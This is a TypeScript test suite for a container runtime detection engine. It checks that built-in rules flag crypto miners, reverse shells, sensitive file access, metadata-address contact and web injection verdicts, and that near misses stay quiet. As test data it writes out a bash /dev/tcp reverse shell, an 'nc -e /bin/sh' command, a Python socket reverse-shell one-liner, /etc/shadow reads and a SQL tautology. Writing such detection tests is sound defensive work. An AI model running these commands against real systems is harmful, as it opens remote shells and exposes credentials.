import type { Event, Process } from '@mamori/proto';
import { describe, expect, it } from 'vitest';
import { loadBuiltinRules } from '../src/builtin.js';
import { createRuleEngine } from '../src/engine.js';
import { buildEvent, webRequest } from './support/events.js';

const rules = loadBuiltinRules();
const engine = createRuleEngine(rules);

const CONTAINER: Event['workload'] = {
  container_id: '3f2a9c1b7d4e',
  container_name: 'portal',
  runtime: 'containerd',
  pod_name: 'portal-7d9f',
  namespace: 'citizens',
  image_repository: 'registry.example.gov/city/portal',
  image_tag: '2.4.1',
};

function process(args: string[], extra: Partial<Process> = {}): Process {
  const exe = args[0]!.startsWith('/') ? args[0]! : `/usr/bin/${args[0]!}`;
  return {
    pid: 4242,
    ppid: 4200,
    name: exe.slice(exe.lastIndexOf('/') + 1),
    exe,
    args,
    cwd: '/srv',
    uid: 1000,
    user: 'app',
    ancestors: [
      { pid: 4200, name: 'node', exe: '/usr/local/bin/node', args: ['node', 'server.js'] },
    ],
    ...extra,
  };
}

function exec(args: string[], extra: Partial<Process> = {}, inContainer = true) {
  return buildEvent({
    workload: inContainer ? CONTAINER : null,
    process_exec: { process: process(args, extra) },
  });
}

function open(path: string, write: boolean, by: string[] = ['python3', 'x.py']) {
  return buildEvent({
    workload: CONTAINER,
    file_open: { process: process(by), path, write, flags: write ? 0o1101 : 0 },
  });
}

function connect(address: string, port: number, by: string[] = ['kworker'], inContainer = true) {
  return buildEvent({
    workload: inContainer ? CONTAINER : null,
    network_connect: {
      process: process(by),
      connection: {
        protocol: 'L4_PROTOCOL_TCP',
        local_address: '10.42.0.17',
        local_port: 51234,
        remote_address: address,
        remote_port: port,
      },
    },
  });
}

const sqli = {
  'waas.score': '11.4',
  'waas.categories': 'sqli',
  'waas.locations': 'query.q',
  'waas.reason': 'SQL tautology',
  'waas.policy': 'portal-web',
};

function fired(event: ReturnType<typeof buildEvent>): string[] {
  return engine.evaluate(event).map((rule) => rule.name);
}

const runtimeParent = {
  ancestors: [{ pid: 1, name: 'runc:[2:INIT]', exe: '/usr/bin/runc', args: ['runc', 'init'] }],
};

/** [what, event, the rule it must fire, or null for a near miss that must fire nothing]. */
const cases: [string, ReturnType<typeof buildEvent>, string | null][] = [
  ['xmrig by name', exec(['/tmp/xmrig', '-c', 'config.json']), 'Crypto miner started'],
  [
    'a renamed miner with a stratum URL',
    exec(['/tmp/kworker', '-o', 'stratum+tcp://pool.example.net:3333', '-u', 'wallet']),
    'Crypto miner started',
  ],
  ['miner flags', exec(['/tmp/.x/k', '--donate-level', '1', '-t', '2']), 'Crypto miner started'],
  ['a word about stratum', exec(['curl', 'https://docs.example.net/stratum-protocol']), null],
  ['a pool port', connect('203.0.113.50', 3333), 'Connection to a mining pool port'],
  ['https', connect('203.0.113.50', 443), null],
  ['ssh on a pool port', connect('203.0.113.50', 3333, ['ssh', 'admin@jump']), null],
  [
    'a shell on a socket',
    exec(['bash', '-i'], { stdin_type: 'ipv4', stdout_type: 'ipv4' }),
    'Reverse shell',
  ],
  ['a shell on a pipe', exec(['bash', '-c', 'make'], { stdin_type: 'pipe' }), null],
  ['/dev/tcp', exec(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']), 'Reverse shell'],
  ['nc -e', exec(['nc', '-e', '/bin/sh', '198.51.100.7', '4444']), 'Reverse shell'],
  ['nc probing a port', exec(['nc', '-z', '-w', '1', 'db', '5432']), null],
  [
    'a python one-liner',
    exec([
      'python3',
      '-c',
      'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));subprocess.call(["/bin/sh","-i"])',
    ]),
    'Reverse shell',
  ],
  ['a python program', exec(['python3', 'manage.py', 'migrate']), null],
  ['a terminal shell', exec(['sh'], { tty: 'pts/0' }), 'Shell started in a container'],
  ['kubectl exec', exec(['bash'], runtimeParent), 'Shell started in a container'],
  ['the app running a shell', exec(['sh', '-c', 'date']), null],
  ['a terminal shell on the host', exec(['bash'], { tty: 'pts/1' }, false), null],
  [
    'apt-get in a container',
    exec(['apt-get', 'install', '-y', 'nmap']),
    'Package manager run in a container',
  ],
  [
    'pip install in a container',
    exec(['pip', 'install', 'requests']),
    'Package manager run in a container',
  ],
  ['pip list', exec(['pip', 'list']), null],
  ['apt-get on the host', exec(['apt-get', 'upgrade'], {}, false), null],
  [
    'a dropped binary',
    exec(['/tmp/payload'], { exe_upper_layer: true }),
    'Binary written then executed in a container',
  ],
  ['an image binary', exec(['/usr/bin/id'], { exe_upper_layer: false }), null],
  ['shadow written', open('/etc/shadow', true), 'Write to a sensitive file'],
  [
    'authorized_keys written',
    open('/root/.ssh/authorized_keys', true, ['sh']),
    'Write to a sensitive file',
  ],
  [
    'a binary directory written',
    open('/usr/local/bin/kubectl', true, ['curl']),
    'Write to a sensitive file',
  ],
  [
    'trusted certificates written',
    open('/etc/ssl/certs/evil.pem', true),
    'Write to a sensitive file',
  ],
  ['dpkg writing a binary', open('/usr/bin/curl', true, ['dpkg', '-i']), null],
  ['hosts written', open('/etc/hosts', true), null],
  [
    'shadow read',
    open('/etc/shadow', false, ['cat', '/etc/shadow']),
    'Sensitive file read by an untrusted program',
  ],
  ['shadow read by sshd', open('/etc/shadow', false, ['sshd']), null],
  ['passwd read', open('/etc/passwd', false, ['cat', '/etc/passwd']), null],
  [
    'the metadata address',
    connect('169.254.169.254', 80, ['curl']),
    'Contact with the cloud metadata address',
  ],
  ['a link-local neighbour', connect('169.254.169.253', 80, ['curl']), null],
  [
    'an injection the proxy refused',
    webRequest({ sensor: 'waas', 'waas.action': 'block', 'waas.enforced': 'true', ...sqli }),
    'Web request blocked',
  ],
  [
    'an injection under a detect-only policy',
    webRequest({ sensor: 'waas', 'waas.action': 'block', ...sqli }),
    'Web attack not blocked',
  ],
  [
    'an injection in an access log',
    webRequest({ sensor: 'access-log', 'waas.action': 'block', 'waas.enforced': 'false', ...sqli }),
    'Web attack not blocked',
  ],
  [
    'an injection with a bot signature',
    webRequest({
      'waas.action': 'block',
      'waas.enforced': 'true',
      ...sqli,
      'waas.categories': 'bot,sqli',
    }),
    'Web request blocked',
  ],
  [
    'a request between the thresholds',
    webRequest({ 'waas.action': 'alert', 'waas.score': '3.2', 'waas.categories': 'protocol' }),
    'Suspicious web request',
  ],
  ['a clean sample', webRequest({ 'waas.action': 'allow', 'waas.sampled': 'true' }, '/'), null],
  ['a request without a verdict', webRequest({}), null],
  [
    'a verdict on a process, not a request',
    buildEvent({
      workload: CONTAINER,
      labels: { 'waas.action': 'block', 'waas.enforced': 'true' },
      process_exec: { process: process(['/usr/bin/ls']) },
    }),
    null,
  ],
  [
    'a flood refused',
    webRequest({
      'waas.action': 'block',
      'waas.enforced': 'true',
      'waas.categories': 'rate-limit',
    }),
    'Web client over its rate limit',
  ],
  [
    'a flood let through',
    webRequest({ 'waas.action': 'alert', 'waas.categories': 'rate-limit' }),
    'Web client over its rate limit',
  ],
  [
    'a scripted client',
    webRequest({ 'waas.action': 'block', 'waas.enforced': 'true', 'waas.categories': 'bot' }),
    'Bot request to a web application',
  ],
  ['a crawler let in', webRequest({ 'waas.action': 'allow', 'waas.categories': 'bot' }), null],
];

describe("Mamori's built-in rules", () => {
  it('all compile, with ids of their own and ATT&CK techniques in their tags', () => {
    expect(rules.problems).toEqual([]);
    expect(rules.skipped).toEqual([]);
    expect(rules.rules.length).toBeGreaterThanOrEqual(9);
    for (const rule of rules.rules) {
      expect(rule.id).toBe(`mamori:${rule.name}`);
      expect(rule.source).toBe('mamori');
      expect(rule.tags.some((tag) => /^T\d{4}(\.\d{3})?$/.test(tag))).toBe(true);
    }
  });

  it.each(cases)('%s', (_what, event, rule) => {
    expect(fired(event)).toEqual(rule === null ? [] : [rule]);
  });

  it('every rule has an event that fires it', () => {
    const covered = new Set(cases.map(([, , rule]) => rule));
    for (const rule of rules.rules) expect(covered.has(rule.name)).toBe(true);
  });

  it('offers web requests to the WAAS rules alone, and nothing else to them', () => {
    const waas = rules.rules.filter((rule) => rule.tags.includes('waas'));
    expect(waas.map((rule) => rule.name)).toEqual([
      'Web request blocked',
      'Web attack not blocked',
      'Suspicious web request',
      'Web client over its rate limit',
      'Bot request to a web application',
    ]);
    expect(engine.rulesFor('http_request')).toEqual(waas);
    for (const rule of waas) expect(rule.kinds).toEqual(['http_request']);
    expect(waas.map((rule) => [rule.severity, rule.tags.filter((t) => /^T\d/.test(t))])).toEqual([
      ['medium', ['T1190']],
      ['high', ['T1190']],
      ['low', ['T1190']],
      ['low', ['T1499', 'T1498']],
      ['low', ['T1595']],
    ]);
  });

  it("renders a web rule's output with the request and the verdict", () => {
    const event = webRequest({ 'waas.action': 'block', 'waas.enforced': 'true', ...sqli });
    const [rule] = engine.evaluate(event);
    expect(rule!.render(event)).toBe(
      "Web request blocked (method=GET host=portal.example.gov url=/search?q=1'%20or%20'1'='1 client=203.0.113.9 score=11.4 categories=sqli locations=query.q reason=SQL tautology policy=portal-web)",
    );
  });

  it("renders the output with the event's values", () => {
    const event = exec(['/tmp/xmrig', '-o', 'stratum+tcp://pool.example.net:3333']);
    const [rule] = engine.evaluate(event);
    expect(rule!.render(event)).toBe(
      'Crypto miner started (process=xmrig cmdline=xmrig -o stratum+tcp://pool.example.net:3333 user=app container=3f2a9c1b7d4e image=registry.example.gov/city/portal)',
    );
  });
});
